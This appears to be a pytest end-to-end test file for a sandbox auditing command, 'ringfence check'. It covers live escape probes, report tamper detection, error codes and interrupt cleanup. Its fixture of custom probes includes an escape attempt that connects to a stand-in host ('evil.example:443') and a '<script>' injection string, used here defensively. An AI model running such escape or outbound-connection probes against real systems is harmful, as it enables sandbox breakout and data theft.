"""`ringfence check` as a person runs it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

ACCEPT = [] if os.geteuid() == 0 else ["memory", "cpu", "pids"]
LIVE = ("--only", "NET-06", "--only", "FS-40", "--only", "DST-01")


@pytest.fixture
def environment(tmp_path: Path) -> dict[str, str]:
    policy = {"preset": "strict", "accept_unenforced": ACCEPT}
    (tmp_path / "policy.yaml").write_text(yaml.safe_dump(policy))
    return {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path),
        "LANG": "C.UTF-8",
        "NO_COLOR": "1",
        "RINGFENCE_STATE_DIR": str(tmp_path / "state"),
    }


def call(environment: dict[str, str], *arguments: str) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [sys.executable, "-m", "ringfence", "check", *arguments],
        env=environment,
        cwd=environment["HOME"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=110,
        check=False,
    )
    assert "Traceback" not in done.stderr + done.stdout
    return done


def test_a_few_probes_live_with_a_report(environment: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "r.report"
    done = call(environment, "-p", "policy.yaml", *LIVE, "--output", "json", "--report", str(out))
    assert done.returncode == 0, done.stdout + done.stderr
    found = json.loads(done.stdout)
    assert {f["id"]: f["outcome"] for f in found["findings"]} == dict.fromkeys(LIVE[1::2], "pass")
    assert found["isolations"][0]["start_seconds"] > 0
    assert call(environment, "verify", str(out)).returncode == 0
    data = bytearray(out.read_bytes())
    data[len(data) // 2] ^= 1
    out.write_bytes(data)
    changed = call(environment, "verify", str(out), "--json")
    assert changed.returncode == 3
    assert json.loads(changed.stdout)["error"]["code"] == "report-forged"


OWN = [
    {"id": "E-1", "probe": "echo ESCAPED; echo '<script>'"},
    {"id": "H-1", "probe": "python3 -c 'from h import *; esc(conn(\"evil.example:443\"))'"},
    {
        "id": "V-1",
        "probe": 'for v in EGRESS_SOCK ALLOW_HOST ALLOW_PORT HOST_PORT HOST_ABSTRACT HOST_CANARY '
        'HOST_PID; do [ -n "${!v}" ] || echo "ESCAPED no $v"; done; python3 -c "import h"',
    },
]  # fmt: skip


def test_own_probes(environment: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "own.json").write_text(json.dumps(OWN))
    arguments = ("-p", "policy.yaml", "--attacks", "own.json", "--only", "own.*")
    done = call(environment, *arguments, "--output", "json")
    assert done.returncode == 1, done.stdout + done.stderr
    outcomes = {f["id"]: f["outcome"] for f in json.loads(done.stdout)["findings"]}
    assert outcomes == {"own.E-1": "fail", "own.H-1": "pass", "own.V-1": "pass"}
    page = call(environment, *arguments, "--output", "html")
    assert page.returncode == 1
    assert "<script" not in page.stdout
    table = call(environment, *arguments)
    assert table.returncode == 1
    assert "own.E-1" in table.stdout
    assert "mend:" in table.stdout


@pytest.mark.parametrize(
    ("arguments", "status", "code"),
    [
        (("--only", "NET-999"), 2, "check-unknown"),
        (("--isolation", "chroot"), 2, "isolation-unknown"),
        (("--attacks", "none.json"), 2, "attacks-invalid"),
        (("--policy", "none.yaml"), 2, "policy-unreadable"),
        (("verify", "none.report"), 2, "report-refused"),
        (("verify", "policy.yaml"), 2, "report-invalid"),
    ],
)
def test_what_cannot_be_used(
    environment: dict[str, str], arguments: tuple[str, ...], status: int, code: str
) -> None:
    done = call(environment, *arguments)
    assert done.returncode == status, done.stderr
    assert code in done.stderr


def test_static_checks_alone_and_the_list(environment: dict[str, str]) -> None:
    done = call(environment, "--only", "POL*", "--output", "sarif")
    assert done.returncode == 0, done.stdout
    log: dict[str, Any] = json.loads(done.stdout)
    assert log["runs"][0]["results"][0]["ruleId"] == "POL001"
    listed = call(environment, "--list", "--output", "json")
    assert len(json.loads(listed.stdout)["checks"]) > 200


def test_ctrl_c_leaves_nothing(environment: dict[str, str], tmp_path: Path) -> None:
    environment["TMPDIR"] = str(tmp_path / "scratch")
    (tmp_path / "scratch").mkdir()
    # the place must be entered by the sandbox's own uid
    for directory in (tmp_path, tmp_path / "scratch"):
        directory.chmod(0o755)
    process = subprocess.Popen(
        [sys.executable, "-m", "ringfence", "check", "-p", "policy.yaml"],
        env=environment,
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not list((tmp_path / "scratch").glob("ringfence-check-*/workspace-*")):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 4, out + err
    assert "run-interrupted" in err
    assert "Traceback" not in err
    assert list((tmp_path / "scratch").iterdir()) == []
    left = [
        path
        for path in Path("/proc").glob("[0-9]*/cmdline")
        if str(tmp_path).encode() in _read(path)
    ]
    assert left == []


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""
